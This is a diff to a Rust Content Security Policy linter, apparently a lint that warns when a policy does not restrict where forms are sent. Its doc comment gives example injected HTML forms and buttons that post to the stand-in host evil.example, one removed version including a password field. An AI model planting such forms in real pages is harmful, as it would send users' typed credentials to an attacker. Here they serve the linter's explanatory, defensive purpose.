@@ -1,3 +1,4 @@
+use crate::csp::attack::FORM;
 use crate::csp::{ALLOW_FORMS, Csp, Directive};
 use crate::diagnostic::Diagnostic;
 use crate::lint::report::{Report, lint};
@@ -15,10 +16,11 @@ lint! {
     ///
     /// # Attack
     ///
-    /// The attacker injects a form, or a button that changes where an existing form is sent:
+    /// The attacker injects a form, with fields that the browser fills in, or a button that changes where an existing form is
+    /// sent:
     ///
     /// ```html
-    /// <form action="https://evil.example/"><input name="user"><input type="password" name="password"></form>
+    /// <form action="https://evil.example/"><button name="data">x</button></form>
     /// <button form="login" formaction="https://evil.example/">Sign in</button>
     /// ```
     ///
@@ -65,7 +67,10 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     report.push(
         Diagnostic::finding(header.span, "this policy does not restrict where forms are sent")
             .help("add `form_action: self`")
-            .note("an injected form sends what the user types to another site; `default_src` does not cover it")
+            .note(format!(
+                "an injected `{}` sends what the user types to another site; `default_src` does not cover it",
+                FORM.of_attacker()
+            ))
             .insert(header.span, "form_action: self"),
     );
 }
